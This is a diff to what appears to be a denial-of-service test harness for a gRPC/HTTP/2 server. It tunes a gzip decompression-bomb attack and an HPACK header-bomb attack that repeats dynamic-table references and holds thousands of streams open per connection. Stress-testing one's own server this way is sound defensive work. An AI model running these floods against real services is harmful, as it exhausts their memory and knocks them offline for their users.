@@ -106,8 +106,8 @@ async def long_prompts(run: Attack) -> None:
 
 @attack
 async def compressed(run: Attack) -> None:
-    """64 requests of 16 MiB that are 16 kB on the wire."""
-    packed = gzip.compress(question("x" * 16 * MIB)[5:])
+    """64 requests of 15 MiB that are 15 kB on the wire."""
+    packed = gzip.compress(question("x" * 15 * MIB)[5:])
     fields = headers(GENERATE, ("grpc-encoding", "gzip"))
     async with peer(run.port, source=run.source) as one:
         streams = [await one.call(fields, message(packed, compressed=True)) for _ in range(64)]
@@ -136,19 +136,32 @@ async def almost_whole_messages(run: Attack) -> None:
 
 @attack
 async def header_bombs(run: Attack) -> None:
-    """Headers that are short on the wire and long in memory: one entry of 4 kB, named 8,000 times."""
+    """Headers that are short on the wire and long in memory: entries of the table, named again and again.
+
+    On one connection 20 calls of 32 MB each; on others 8,000 calls that stay open, of 7 kB from 30 bytes.
+    """
+    newest = b"\xbe"  # of the dynamic table
+    async with peer(run.port, source=run.source) as one:
+        streams = []
+        block = one.block([*headers(GENERATE), ("x", "y" * 4000)]) + newest * 8000
+        for _ in range(20):
+            if one.closed.is_set():
+                break
+            streams.append(one.stream())
+            await one.send(frame(HEADERS, END_HEADERS | END_STREAM, streams[-1], block))
+            block = one.block(headers(GENERATE)) + newest * 8000
+        await one.answered(streams, seconds=1)
+        run.count(one, streams)
     while not run.over:
         async with peer(run.port, source=run.source) as one:
-            base = one.block([*headers(GENERATE), ("x", "y" * 4000)])
-            block = base + b"\xbe" * 8000  # the newest entry of the dynamic table
-            streams = []
-            for _ in range(20):
-                if one.closed.is_set():
+            first = [*headers(GENERATE, timeout="5S"), ("x", "y" * 3400)]
+            streams = [await one.call(first)]
+            again = one.block(headers(GENERATE, timeout="5S")) + newest * 2
+            for _ in range(8_000):
+                if one.closed.is_set() or run.over:
                     break
-                stream = one.stream()
-                streams.append(stream)
-                await one.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
-                block = one.block(headers(GENERATE)) + b"\xbe" * 8000
+                streams.append(one.stream())
+                await one.send(frame(HEADERS, END_HEADERS, streams[-1], again))
             await one.answered(streams, seconds=1)
             run.count(one, streams)
 
